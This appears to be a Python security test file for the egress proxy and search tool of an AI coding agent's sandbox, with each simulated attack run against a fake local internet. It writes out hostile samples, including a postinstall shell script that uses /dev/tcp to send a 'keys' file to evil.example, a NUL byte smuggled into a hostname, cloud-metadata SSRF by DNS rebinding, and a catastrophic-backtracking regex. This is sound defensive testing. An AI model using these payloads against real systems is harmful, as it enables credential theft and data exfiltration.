"""Attacks through the way out that a set-up has, and by what the model's own tools are asked to search."""

from __future__ import annotations

import asyncio
import ssl
from collections.abc import AsyncIterator, Callable, Mapping, Sequence
from contextlib import AbstractAsyncContextManager, asynccontextmanager, suppress
from dataclasses import dataclass, field
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from caged_place import PROBE, SECRET
from security_registry import attack, defence

from otto_bot.bench.simulate.planting import Change
from otto_bot.core import egress_hosts
from otto_bot.core.config import Project
from otto_bot.core.egress_hosts import REGISTRIES, Allowed
from otto_bot.jobs import setting_up
from otto_bot.jobs.setting_up import SetUp
from otto_bot.model.toolset import FileTools
from otto_bot.sandbox.egress import Egress, WayLimits, open_way

EGRESS, HOSTS = "otto_bot.sandbox.egress", "otto_bot.core.egress_hosts"
PUBLIC = "93.184.215.14"

NAMES = defence(
    "set-up-reaches-named-hosts",
    "A set-up reaches hosts of the host's list alone, by name and port",
    Change(EGRESS, "Egress._checked", "if not self.names.allows(host, port):", "if False:"),
)
PORTS = defence(
    "set-up-reaches-https-alone",
    "A set-up reaches the port of https, and another one only where the list says so",
    Change(HOSTS, "_matches", "return fits and port == wanted", "return fits"),
)
WHOLE_NAMES = defence(
    "names-are-names",
    "What is compared with the list is what will be resolved: a host with other characters than names have is refused",
    Change(HOSTS, "Allowed.allows", 'if not is_entry(name) or name[0] == "*":', "if False:"),
)
ADDRESSES = defence(
    "set-up-reaches-the-internet-alone",
    "A name that leads to this machine, its network or a cloud's services is refused",
    Change(EGRESS, "Egress._checked", "if wrong or not addresses:", "if not addresses:"),
)
CLOUDS = defence(
    "a-cloud-is-not-near",
    "Where a private network may be reached, the services of clouds that have addresses of such networks may not",
    Change("otto_bot.sandbox.addresses", "is_near", " and not any(ip in network for network in _OF_CLOUDS)", ""),
)
CHECKED = defence(
    "checked-address-is-used",
    "A name is resolved once, and the connection goes to the address that was checked",
    Change(EGRESS, "Egress._checked", 'return "", addresses[0]', 'return "", host'),
)
GREETED = defence(
    "greeting-names-the-host",
    "The TLS greeting must name the host that was asked for, whatever else lives at its address",
    Change(EGRESS, "Egress._greeted", "if greeting.name != host:", "if False:"),
)
SENT = defence(
    "set-up-sends-little",
    "A set-up may receive much and send little: a repository does not fit through its way out",
    Change(EGRESS, "Egress._copy", "if count > most:", "if False:"),
)
COUNTED = defence(
    "set-up-connections-are-counted",
    "A set-up has a bounded number of connections at once, those that ask for nothing included",
    Change(EGRESS, "Egress.serve", "self._open <= self.limits.connections", "True"),
)
NARROWS = defence(
    "repository-only-narrows",
    "A repository's own list of hosts takes away from the host's list and adds nothing to it",
    Change(HOSTS, "narrowed", "if any(_within(entry, one) for one in listed)", "if True"),
)
EMPTY = defence(
    "an-empty-list-is-empty",
    "An empty list of hosts means no host, not every host",
    Change(HOSTS, "narrowed", "if repository is None:", "if not repository:"),
)
SEARCHES = defence(
    "searches-run-apart",
    "What a model searches for runs in a process with limits and without the worker's environment",
    Change("otto_bot.model.toolset", "FileTools._answer", 'if name not in ("glob", "grep"):', "if True:"),
)


@dataclass
class Internet:
    """Names with their answers, one after another, and a host behind every address that keeps what it is sent."""

    answers: Mapping[str, Sequence[str]]
    asked: int = 0
    connected: list[str] = field(default_factory=list)
    received: bytearray = field(default_factory=bytearray)
    port: int = 0

    async def resolve(self, name: str, _port: int = 0) -> list[str]:
        """Like a C library: up to the first NUL."""
        known = self.answers.get(name.partition("\0")[0])
        if known is None:
            raise OSError("unknown name")
        self.asked += 1
        return [known[min(self.asked, len(known)) - 1]]

    async def connect(self, address: str, _port: int) -> Any:
        """To the host, which notes the address; a name is resolved as a connection by name would."""
        self.connected += await self.resolve(address) if address in self.answers else [address]
        return await asyncio.open_connection("127.0.0.1", self.port)

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Read to the end, and say of each piece that it came."""
        with suppress(ConnectionError):
            while chunk := await reader.read(65536):
                self.received += chunk
                writer.write(b"thanks\n")
                await writer.drain()
        writer.close()

    @asynccontextmanager
    async def there(self) -> AsyncIterator[Callable[..., AbstractAsyncContextManager[Egress]]]:
        """While it lasts: how the proxy is opened on this internet."""
        server = await asyncio.start_server(self.serve, "127.0.0.1", 0)
        self.port = server.sockets[0].getsockname()[1]
        async with server:
            yield partial(open_way, resolve=self.resolve, connect=self.connect)


async def connected(
    internet: Internet,
    target: str,
    entries: Sequence[str] = REGISTRIES,
    then: bytes = b"",
    up: int = 10**6,
    near: bool = False,
) -> str | None:
    """What a client got that asks for `target` and sends `then`: which addresses had something of it, or None."""
    host = target.partition(":")[0]
    names = Allowed((host,), near=(host,)) if near else Allowed(tuple(entries))
    async with internet.there() as opened, opened(names, limits=WayLimits(up=up)) as way:
        reader, writer = await asyncio.open_unix_connection(way.socket)
        writer.write(f"CONNECT {target} HTTP/1.1\r\n\r\n".encode("latin-1"))
        head = await reader.readuntil(b"\r\n\r\n")
        if b" 200 " in head:
            writer.write(then)
            writer.write_eof()
            with suppress(ConnectionError):  # cut off in the middle
                await reader.read()
        writer.close()
    return f"{internet.connected}: {len(internet.received)} bytes" if internet.received else None


def greeting(name: str) -> bytes:
    """The first bytes of a TLS client that asks for `name`."""
    context = ssl.create_default_context()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = context.wrap_bio(incoming, outgoing, server_hostname=name)
    with pytest.raises(ssl.SSLWantReadError):
        session.do_handshake()
    return outgoing.read()


@attack("foreign-host", point=4, by=NAMES, source="CVE-2025-55284")
async def foreign_host(place: Path) -> str | None:
    """An install script sends what it finds to a host of the attacker's."""
    return await connected(Internet({"evil.example": [PUBLIC]}), "evil.example:443", then=greeting("evil.example"))


@attack("address-instead-of-a-name", point=4, by=NAMES, source="own: an address needs no name that a list could hold")
async def address_instead_of_a_name(place: Path) -> str | None:
    """An install script sends what it finds to an address, at the port where no greeting names a host."""
    return await connected(Internet({PUBLIC: [PUBLIC]}), f"{PUBLIC}:80", then=b"POST / HTTP/1.1\r\n\r\nkeys")


@attack("other-port", point=4, by=PORTS, source="https://www.kb.cert.org/vuls/id/150227 CONNECT to any port")
async def other_port(place: Path) -> str | None:
    """An install script asks the proxy for the mail or shell port of an allowed host."""
    return await connected(Internet({"pypi.org": [PUBLIC]}), "pypi.org:22", then=b"SSH-2.0-x")


@attack("nul-in-a-name", point=4, by=WHOLE_NAMES, source="https://www.penligent.ai/hackinglabs/pt/?p=5317")
async def nul_in_a_name(place: Path) -> str | None:
    """A host whose name ends as an allowed one does, behind a NUL at which resolvers stop reading."""
    internet = Internet({"evil.example": [PUBLIC]})
    return await connected(internet, "evil.example\0.corp.example:80", ["*.corp.example:80"], then=b"keys")


@attack(
    "metadata-by-rebinding",
    point=4,
    by=ADDRESSES,
    source="https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
)
async def metadata_by_rebinding(place: Path) -> str | None:
    """An allowed name is made to lead to the address where a cloud tells machines their credentials."""
    internet = Internet({"pypi.org": ["169.254.169.254"]})
    return await connected(internet, "pypi.org:443", then=greeting("pypi.org"))


@attack(
    "metadata-by-a-near-name",
    point=4,
    by=CLOUDS,
    source="https://www.alibabacloud.com/help/en/ecs/user-guide/view-instance-metadata",
)
async def metadata_by_a_near_name(place: Path) -> str | None:
    """A name that may be of the company's own network is made to lead to a cloud's services, which look like it."""
    internet = Internet({"mirror.corp.example": ["100.100.100.200"]})
    return await connected(internet, "mirror.corp.example:443", then=greeting("mirror.corp.example"), near=True)


@attack("rebinding-after-the-check", point=4, by=CHECKED, source="CVE-2025-49596 and DNS rebinding in general")
async def rebinding_after_the_check(place: Path) -> str | None:
    """A name has a good address when it is checked, and leads to loopback a moment later."""
    internet = Internet({"pypi.org": [PUBLIC, "127.0.0.1"]})
    got = await connected(internet, "pypi.org:443", then=greeting("pypi.org"))
    return got if "127.0.0.1" in internet.connected else None


@attack("another-host-at-the-address", point=4, by=GREETED, source="https://attack.mitre.org/techniques/T1090/004/")
async def another_host_at_the_address(place: Path) -> str | None:
    """A script asks the proxy for an allowed host, and the cache behind its address for the attacker's."""
    internet = Internet({"pypi.org": [PUBLIC]})
    return await connected(internet, "pypi.org:443", then=greeting("evil.example"))


@attack("send-the-repository", point=4, by=SENT, source="https://github.com/advisories/GHSA-cxm3-wv7p-598c")
async def send_the_repository(place: Path) -> str | None:
    """An install script publishes the whole repository as a package at an allowed registry."""
    internet = Internet({"pypi.org": [PUBLIC]})
    got = await connected(internet, "pypi.org:80", ["pypi.org:80"], then=b"x" * 400_000, up=100_000)
    return got if len(internet.received) >= 400_000 else None


@attack("silent-connections", point=4, by=COUNTED, source="CVE-2007-6750, connections held open without a request")
async def silent_connections(place: Path) -> str | None:
    """An install script opens connections and says nothing, until the worker has no descriptor left."""
    async with Internet({}).there() as on, on(Allowed(()), limits=WayLimits(connections=4)) as way:
        opened = [await asyncio.open_unix_connection(way.socket) for _ in range(40)]
        for _look in range(1000):
            if way.refused or way._open >= len(opened):
                break
            await asyncio.sleep(0.01)
        got = None if way.refused else f"{way._open} connections"
        for reader, writer in opened:
            with suppress(OSError):  # it is closed already
                writer.write_eof()
                await reader.read()
            writer.close()
    return got


@attack("repository-adds-a-host", point=4, by=NARROWS, source="own: a file of a repository must not open its host")
def repository_adds_a_host(place: Path) -> str | None:
    """The repository's own file names a host that Otto's host does not allow."""
    left = egress_hosts.narrowed(REGISTRIES, ("pypi.org", "evil.example"))
    return str(left.entries) if left.allows("evil.example", 443) else None


@attack("empty-list-of-hosts", point=4, by=EMPTY, source="CVE-2025-66479")
def empty_list_of_hosts(place: Path) -> str | None:
    """A repository allows no host at all, and the empty list is taken for none being given."""
    left = egress_hosts.narrowed(REGISTRIES, ())
    return str(left.entries) if left.allows("pypi.org", 443) else None


@dataclass
class Tree:
    """As much of a workspace as a set-up needs."""

    path: Path
    home: Path
    readable: tuple[Path, ...] = ()

    def set_up(self) -> str | None:
        """Not yet."""
        return None

    def was_set_up(self, words: str) -> None:
        """Noted."""


@attack("edited-postinstall-fetches", point=4, by=NAMES, source="https://github.com/advisories/GHSA-cxm3-wv7p-598c")
async def edited_postinstall(place: Path) -> str | None:
    """A package's install script, run by a set-up in the cage, sends what it finds to a host of its own."""
    if not PROBE.ok:
        pytest.skip(PROBE.reason)
    (place / "work").mkdir()
    (place / "work" / "keys").write_text(SECRET)
    (place / "work" / "postinstall.sh").write_text(
        "exec 3<>/dev/tcp/127.0.0.1/3128\nprintf 'CONNECT evil.example:80 HTTP/1.1\\r\\n\\r\\n' >&3\n"
        "read -r said <&3; read -r said <&3\ncat keys >&3\nread -r said <&3\n"
    )
    internet = Internet({"evil.example": [PUBLIC]})
    tree: Any = Tree(place / "work", place / "home")
    setup = SetUp((Project(setup="bash postinstall.sh"),), Allowed(REGISTRIES))
    with pytest.MonkeyPatch.context() as patch:
        async with internet.there() as opened:
            patch.setattr(setting_up, "open_way", opened)
            await setup.once(PROBE.cage(), tree, (), {}, 20.0)
    return f"{internet.connected} got {bytes(internet.received)!r}" if internet.received else None


@attack("search-without-end", point=4, by=SEARCHES, source="https://cwe.mitre.org/data/definitions/1333.html")
async def search_without_end(place: Path) -> str | None:
    """A model searches with an expression that backtracks for long, and with it everything that the worker does."""
    (place / "line.txt").write_text("a" * 16 + "!\n")
    looks = 0

    async def look() -> None:
        nonlocal looks
        for looks in range(1, 5):  # noqa: B007 - as often as it gets to
            await asyncio.sleep(0)

    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("PATH", str(place))  # where there is no ripgrep
        looking = asyncio.create_task(look())
        await FileTools(place).call("grep", {"pattern": "(a|a)*$"})
        looking.cancel()
    return "the worker stood still" if looks <= 1 else None
